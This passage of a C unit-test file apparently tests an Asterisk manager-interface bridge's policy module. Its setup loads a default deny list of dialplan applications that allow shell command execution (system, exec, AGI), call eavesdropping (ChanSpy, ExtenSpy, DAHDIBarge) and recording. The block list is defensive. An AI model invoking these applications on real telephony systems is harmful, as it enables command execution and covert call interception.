    /* the default deny list of applications but Bridge, which an operator
     * may allow again: its F() rule is under test */
    char *env[] = {"AMIBRIDGE_AMI_USERNAME=bridge", "AMIBRIDGE_AMI_SECRET=s",
                   "AMIBRIDGE_DENY_ORIGINATE_APPS=*system* *exec* *agi* ExternalIVR MixMonitor "
                   "Monitor Record Dictate SendFAX ReceiveFAX Set MSet ChanSpy ExtenSpy DISA "
                   "MP3Player ChannelRedirect BridgeAdd DAHDIBarge Pickup PickupChan ParkedCall "
                   "SoftHangup DAHDIScan",
                   NULL};
    char err[256];
    return cfg_load(&cfg, env, NULL, err, sizeof(err));
}

static int teardown(void **state)
{
    (void)state;
    cfg_free(&cfg);
    return 0;
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(every_row_gets_its_verdict),
        cmocka_unit_test(has_rules_follows_the_lists),
        cmocka_unit_test(refusals_name_the_rule),
    };
    return cmocka_run_group_tests_name("policy", tests, setup, teardown);
}
